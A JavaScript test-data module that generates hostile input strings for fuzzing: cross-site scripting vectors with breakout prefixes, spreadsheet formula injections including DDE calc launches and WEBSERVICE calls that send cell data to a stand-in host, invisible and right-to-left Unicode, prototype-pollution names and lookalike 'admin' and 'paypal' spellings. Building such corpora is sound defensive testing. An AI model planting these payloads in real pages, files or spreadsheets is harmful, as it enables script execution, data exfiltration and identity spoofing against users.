// Texts that hurt: published ones, and our own for script, markup, formulas, hidden characters and names of properties.
import { createRequire } from 'node:module';

/** @type {string[]} */
const NAUGHTY = createRequire(import.meta.url)('big-list-of-naughty-strings/blns.json');

/** What a vector calls if it runs. */
const CALL = 'pwned()';

const TAGS = ['script', 'img', 'svg', 'iframe', 'body', 'video', 'audio', 'details', 'input', 'object', 'embed', 'math', 'style', 'link', 'meta', 'base', 'form', 'marquee', 'template', 'button', 'a', 'textarea', 'title', 'noscript', 'xmp', 'animate', 'set', 'foreignObject', 'isindex', 'x'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onbegin', 'onstart', 'onpointerenter', 'onanimationstart', 'oncontentvisibilityautostatechange'];
/** Ways out of where a text may stand: an attribute, a comment, a script, a style, a title. */
const OUT = ['', '">', "'>", '--><', ']]>', '</script>', '</style>', '</title>', '</textarea>', '`', '${', '{{', '\u0000', '\r\n\r\n', '%0a', '\\u003c'];
/** Before a formula: a spreadsheet may skip it, or a reader may not see it. */
const LEADS = ['', ' ', '\t', '\n', '\r\n', '"', "'", '""', '\uFEFF', '\u200B', '\u200E', '\u202E', '\u2066', '\u00A0', '\u3000', '\u0000'];
const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://canary.test/"&A1)', '=WEBSERVICE("https://canary.test/"&A1)', '=IMPORTXML("https://canary.test/","//a")', '=DDE("cmd";"/C calc";"x")', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '\t=1+1', '|calc', '%1+1'];
const HIDDEN = ['\u202E', '\u202D', '\u2066', '\u2067', '\u2069', '\u200B', '\u200C', '\u200D', '\u200E', '\u200F', '\u2060', '\uFEFF', '\u00AD', '\u180E', '\u3164', '\uFFA0', '\u115F', '\u0000', '\u0007', '\u0008', '\u001B[31m', '\u007F', '\u0085', '\u2028', '\u2029', '\u{E0041}', '\uD800', '\uDFFF'];
const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then', 'length', 'null', 'undefined', 'NaN', 'true', '[object Object]'];

/** @returns {string[]} all, without repeats, in a fixed order */
export function hostileStrings() {
  const out = new Set(NAUGHTY.filter(Boolean));
  for (const before of OUT) for (const tag of TAGS) for (const event of EVENTS) out.add(`${before}<${tag} src=x href=x ${event}=${CALL}>`);
  for (const before of OUT) for (const tag of TAGS) {
    out.add(`${before}<${tag}>${CALL}</${tag}>`);
    out.add(`${before}<${tag} src="javascript:${CALL}" href="javascript:${CALL}" xlink:href="data:text/html,<script>${CALL}</script>">`);
    out.add(`${before}&lt;${tag} onload=${CALL}&gt;`);
  }
  for (const lead of LEADS) for (const formula of FORMULAS) out.add(lead + formula);
  for (const hidden of HIDDEN) for (const name of ['alice', 'alice@contoso.com', '=1+1', '']) for (const at of [0, 2, 5]) out.add(name.slice(0, at) + hidden + name.slice(at));
  for (const name of NAMES) for (const lead of ['', '"', ' ']) out.add(lead + name);
  // Letters of other alphabets that look like ours; marks on marks; right-to-left; the longest.
  for (const text of ['\u0430lice@contoso.com', 'аdmin', 'ＡＤＭＩＮ', 'pаypal', 'H̷̛̪͝e̷', `Z${'\u0300'.repeat(500)}`, 'שלום<b>', 'مرحبا">', 'x'.repeat(20_000), '💥'.repeat(2000)]) out.add(text);
  return [...out];
}
